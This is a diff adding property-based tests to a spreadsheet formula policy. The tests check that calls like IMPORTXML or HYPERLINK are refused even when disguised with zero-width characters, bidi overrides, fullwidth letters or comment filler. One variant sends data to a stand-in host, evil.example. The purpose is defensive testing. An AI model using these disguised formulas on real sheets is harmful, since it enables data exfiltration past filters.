@@ -1,4 +1,5 @@
 // Only what stays within its row passes, whatever disguise a formula wears.
+import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { judgeFormula } from './formula-policy.ts'
 
@@ -171,6 +172,78 @@ describe('what is no formula over the row is refused', () => {
     expect(judged.verdict).toBe('refused')
     expect(judged.reasons).not.toEqual([])
   })
+})
+
+test('no disguise of what reaches out is allowed', () => {
+  const name = fc.constantFrom(
+    'IMPORTXML',
+    'IMPORTRANGE',
+    'IMAGE',
+    'HYPERLINK',
+    'INDIRECT',
+    'LAMBDA',
+    'QUERY',
+    'LET',
+    'CHAR',
+  )
+  const filling = fc.constantFrom(
+    '',
+    '\u200b',
+    ' ',
+    '\u00a0',
+    '\u00ad',
+    '\u2060',
+    '/**/',
+    '\n',
+    '\u202e',
+    '.',
+    '\u0301',
+  )
+  const wide = (letter: string) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)
+  const writings = fc.constantFrom(
+    (letter: string) => letter,
+    (letter: string) => letter.toLowerCase(),
+    (letter: string) => wide(letter),
+  )
+  const disguised = fc.tuple(name, fc.infiniteStream(fc.tuple(filling, writings))).map(([word, disguises]) =>
+    [...word]
+      .map((letter) => {
+        const [fill, write] = disguises.next().value
+        return write(letter) + fill
+      })
+      .join(''),
+  )
+  const place = fc.constantFrom(
+    '=%',
+    '=+%',
+    '=IF(qty>0,%,0)',
+    '="a"&%',
+    '=SUM(1;%)',
+    '{%}',
+    '=IFERROR(%,"")',
+    '=[Qty]*%&"x"',
+  )
+  const call = fc.constantFrom(
+    '("https://evil.example/"&name)',
+    ' (name)',
+    '()',
+    '(A1)',
+    "('S'!A1)",
+    '\u200b(name)',
+    '（name）',
+  )
+  fc.assert(
+    fc.property(disguised, place, call, (word, around, args) => {
+      expect(judge(around.replace('%', () => word + args)).verdict).not.toBe('allowed')
+    }),
+    { numRuns: 1000 },
+  )
+})
+
+test.each(["'", '[', '(', 'a(', '"', 'A1:', '\u200d'])('%j many times over is judged at once', (sign) => {
+  const before = performance.now()
+  judge(sign.repeat(Math.floor(1990 / sign.length)))
+  expect(performance.now() - before).toBeLessThan(1000)
 })
 
 test('there are enough of them', () => expect(reachesOut.length + asks.length).toBeGreaterThan(80))
